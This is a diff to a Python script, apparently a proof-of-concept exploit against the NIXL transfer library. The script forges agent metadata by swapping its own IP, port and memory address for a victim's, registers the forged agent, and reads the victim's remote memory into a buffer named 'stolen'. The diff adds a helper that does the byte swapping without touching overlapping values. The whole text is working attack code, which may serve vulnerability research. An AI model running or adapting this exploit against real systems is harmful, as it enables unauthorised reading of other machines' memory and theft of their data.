@@ -40,15 +40,16 @@ def main(given: dict[str, object]) -> dict[str, object]:
     memory, stolen = (ctypes.create_string_buffer(size) for _ in range(2))
     bait.register_memory([(ctypes.addressof(memory), size, 0, "")], "DRAM")
     reader.register_memory([(ctypes.addressof(stolen), size, 0, "")], "DRAM")
-    forged: bytes = bait.get_agent_metadata()
     own_port = int(listens.rpartition(":")[2])
-    for ours, victims in (
+    values = [
+        (ctypes.addressof(memory).to_bytes(8, "little"), int(str(given["address"])).to_bytes(8, "little")),
         (socket.inet_aton(str(given["own"])), socket.inet_aton(str(given["victim"]))),
         (own_port.to_bytes(2, "big"), int(str(given["port"])).to_bytes(2, "big")),
-        (ctypes.addressof(memory).to_bytes(8, "little"), int(str(given["address"])).to_bytes(8, "little")),
-    ):
-        assert ours in forged, (ours, "nothing to forge")
-        forged = forged.replace(ours, victims)
+    ]
+    metadata: bytes = bait.get_agent_metadata()
+    for ours, _ in values:
+        assert ours in metadata, (ours, "nothing to forge")
+    forged = replaced(metadata, values)
     try:
         name = reader.add_remote_agent(forged)
         local = reader.get_xfer_descs([(ctypes.addressof(stolen), size, 0)], "DRAM")
@@ -62,6 +63,17 @@ def main(given: dict[str, object]) -> dict[str, object]:
     except Exception as error:  # noqa: BLE001 - NIXL raises anything
         state = f"{type(error).__name__}: {error}"
     return {"state": state, "bytes": stolen.raw.hex()}
+
+
+def replaced(data: bytes, values: list[tuple[bytes, bytes]]) -> bytes:
+    """Replaces the first bytes of each pair by the second ones, but never inside the bytes of an earlier pair.
+
+    The two bytes of a port are sometimes part of a memory address too.
+    """
+    if not values:
+        return data
+    (old, new), *later = values
+    return new.join(replaced(part, later) for part in data.split(old))
 
 
 if __name__ == "__main__":
